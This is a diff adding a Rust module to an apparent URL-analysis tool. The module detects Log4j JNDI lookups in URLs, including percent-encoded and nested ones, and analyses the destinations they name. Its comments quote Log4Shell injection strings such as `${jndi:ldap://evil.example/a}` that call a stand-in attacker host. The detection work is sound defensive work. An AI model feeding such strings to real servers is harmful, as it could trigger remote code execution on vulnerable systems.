@@ -1,0 +1,155 @@
+//! URLs that Log4j lookups carry: the name of `${jndi:ldap://evil.example/a}`
+//! is where a vulnerable server that logs the URL connects (and whose
+//! answer it may run), so it is a destination like any carried URL, with
+//! its own analysis (`${jndi:ldap://127.0.0.1/}` reaches a loopback
+//! address, `${jndi:ldap://paypa1.com/}` a look-alike).
+//!
+//! The lookups are read as [`checks::lookup`](crate::analysis::checks::lookup)
+//! reads them for `jndi-lookup`: in the input as written, whole (a lookup
+//! may span path segments), then in each component whose decoding changed
+//! it (`%24%7Bjndi%3A...`).
+
+use super::{component_label, find_url, lift, url_node, Budget, Nested, NestedKind};
+use crate::analysis::checks::lookup::{jndi_lookups, JndiLookup};
+use crate::analysis::component::ComponentAnalysis;
+use crate::analysis::Options;
+use crate::split::ComponentKind::{PathSegment, QueryKey, QueryValue};
+use crate::split::Span;
+use crate::warnings::Warning;
+
+/// How a URL a lookup names is written (its [`Nested::spelling`]): its
+/// destination is where a server connects, not where a redirect sends a
+/// visitor, and `jndi-lookup` says so already.
+pub(crate) const IN_LOOKUP: &str =
+    "in a Log4j JNDI lookup, which a server running Log4j 2 before 2.15 that logs it connects to";
+
+/// `${` and `jndi:`, before the name of a lookup written plainly.
+const NAME_OFFSET: usize = 7;
+
+/// The URLs the Log4j lookups of `input` and of its decoded components
+/// name, at most `room`, each once (the first place it is written) and
+/// none that `already` lists.
+pub(super) fn unfold_lookups(
+    input: &[u8],
+    components: &[ComponentAnalysis],
+    already: &[Nested],
+    room: usize,
+    options: &Options,
+    budget: &mut Budget,
+    lifted: &mut Vec<Warning>,
+) -> Vec<Nested> {
+    let mut out: Vec<Nested> = Vec::new();
+    if memchr::memmem::find(input, b"${").is_none() && !components.iter().any(decoded_lookup) {
+        return out;
+    }
+    let mut seen: Vec<Vec<u8>> = Vec::new();
+    let mut keep = |l: &JndiLookup, out: &Vec<Nested>| {
+        // A URL the unfolding found as text already (`?u=${jndi:ldap://x/}`
+        // read from its `ldap:`) is listed once.
+        let found = already
+            .iter()
+            .any(|n| n.kind == NestedKind::Url && n.text.as_bytes().starts_with(&l.name));
+        let fresh = out.len() < room && names_url(&l.name) && !found && !seen.contains(&l.name);
+        if fresh {
+            seen.push(l.name.clone());
+        }
+        fresh
+    };
+    // As written: the name's own bytes are marked when no nested lookup
+    // spelled it; else the whole lookup.
+    for l in jndi_lookups(input) {
+        if !keep(&l, &out) {
+            continue;
+        }
+        let span = Span::new(l.start, l.end);
+        let component = components
+            .iter()
+            .position(|c| c.span.start <= l.start && l.start < c.span.end.max(c.span.start + 1));
+        let last = components
+            .iter()
+            .rfind(|c| c.span.start < l.end)
+            .map(|c| c.kind);
+        let label = match component.and_then(|i| components.get(i)) {
+            Some(c) if c.span.end >= l.end => label_of(components, component.unwrap_or(0)),
+            // `/${jndi:ldap://evil.example/a}`: three segments of one path.
+            Some(c) if c.kind == PathSegment && last == Some(PathSegment) => "path".to_string(),
+            _ => "URL".to_string(),
+        };
+        let mut node = node(&l, label, options, budget);
+        node.component = component.unwrap_or(0);
+        node.layer = 1;
+        node.span = span;
+        let plain = !l.nested;
+        lift(&mut node, lifted, |s| {
+            if plain {
+                Span::new(
+                    l.start + NAME_OFFSET + s.start,
+                    l.start + NAME_OFFSET + s.end,
+                )
+            } else {
+                span
+            }
+        });
+        out.push(node);
+    }
+    // Decoded: an application that logs the value logs it decoded. Its
+    // bytes are the whole component's.
+    for (i, c) in components.iter().enumerate() {
+        if !decoded_lookup(c) {
+            continue;
+        }
+        for l in jndi_lookups(c.last_layer()) {
+            if !keep(&l, &out) {
+                continue;
+            }
+            let mut node = node(&l, label_of(components, i), options, budget);
+            node.component = i;
+            node.layer = c.layers().count();
+            node.span = c.span;
+            lift(&mut node, lifted, |_| c.span);
+            out.push(node);
+        }
+    }
+    out
+}
+
+/// Whether component `c` holds `${` only once decoded.
+fn decoded_lookup(c: &ComponentAnalysis) -> bool {
+    let text = c.last_layer();
+    text != c.raw() && memchr::memmem::find(text, b"${").is_some()
+}
+
+/// Whether a JNDI name is a URL (`ldap://x/a`, `dns://x`), not a name in
+/// the server's own directory (`java:comp/env/jdbc`).
+fn names_url(name: &[u8]) -> bool {
+    find_url(name).is_some_and(|f| f.from == 0)
+}
+
+/// The label of component `i` for a `via` path, with its key when it is a
+/// query value.
+fn label_of(components: &[ComponentAnalysis], i: usize) -> String {
+    let Some(c) = components.get(i) else {
+        return "URL".to_string();
+    };
+    let key = i
+        .checked_sub(1)
+        .and_then(|k| components.get(k))
+        .filter(|k| c.kind == QueryValue && k.kind == QueryKey)
+        .map(|k| k.decoded_lossy());
+    component_label(c, key.as_deref())
+}
+
+/// The URL node of lookup `l`, found in `label`.
+fn node(l: &JndiLookup, label: String, options: &Options, budget: &mut Budget) -> Nested {
+    let mut spelling = vec![IN_LOOKUP];
+    if l.nested {
+        spelling.push("its letters spelled by nested lookups Log4j resolves first");
+    }
+    url_node(
+        &l.name,
+        format!("{label} → Log4j JNDI lookup"),
+        spelling,
+        options,
+        budget,
+    )
+}
